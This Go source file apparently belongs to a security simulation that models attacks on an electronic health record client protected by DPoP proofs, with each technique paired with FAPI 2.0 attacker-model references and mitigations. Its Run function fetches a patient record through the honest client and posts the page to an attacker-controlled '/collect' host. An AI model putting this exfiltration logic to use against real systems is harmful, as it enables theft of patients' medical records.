package attacker

import (
	"context"
	"net/url"

	"thiefbox/sim/event"
)

// Script of the thief's runs in the pages of the honest client, in a clinician's browser. It cannot read
// her cookies, and there is no key in the page. It need not: what it asks the client for, the client gets
// with its own token and a proof of its own. How the script came there makes no difference on the wire.
func injectedScript(id, variant, title, story string, reads []string, beyond string) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Beyond: beyond,
		Evidence: "Nothing at the server and the API that an ordinary morning would not show; at the client, records opened faster and in another " +
			"order than a person opens them.",
		Needs: []event.Vantage{event.PageScript},
		Run: func(ctx context.Context, g Ground) error {
			s, err := g.Script()
			if err != nil {
				return err
			}
			page, err := s.Fetch(ctx, g.Target().ClientRecord+stranger(g))
			if err != nil {
				return err
			}
			newSite(g)
			return s.Send(ctx, "https://"+g.Target().OwnHost+"/collect", url.Values{"page": {string(page.Body)}})
		},
	})
}

var _ = injectedScript("D-24", "signing-oracle", "A script in the page has the client sign for it",
	"A flaw of the EHR lets the thief run script in a clinician's page. The key for proofs cannot be taken away, but whatever the script asks the EHR "+
		"for, the EHR fetches, with a fresh proof. The script sends what it sees to the thief.",
	[]string{"RFC 9449 s11.4", "FAPI 2.0 Attacker Model, outside"},
	"A proof shows that the client asked, not why. Injected script is outside the attacker model; a policy for the page's content keeps it out.")

var _ = injectedScript("E-02", "man-in-the-browser", "Malware in the clinician's browser",
	"A malicious extension works in a clinician's browser while she is signed in. It opens records behind her back and sends them out.",
	[]string{"FAPI 2.0 Attacker Model, outside"},
	"The attacker model leaves the person's own machine out: to every server this is the clinician at work.")

var _ = injectedScript("E-10", "poisoned-dependency", "A dependency of the client's page turns against it",
	"The EHR's page loads a library that somebody else maintains. One morning the library's new version also copies each record it can reach to the "+
		"thief.",
	[]string{"RFC 9449 s11.4", "polyfill.io (June 2024)"},
	"It runs as the client's own code. FAPI 2.0 keeps tokens and keys in the backend, and so away from the page; what the page may see, it may leak.")
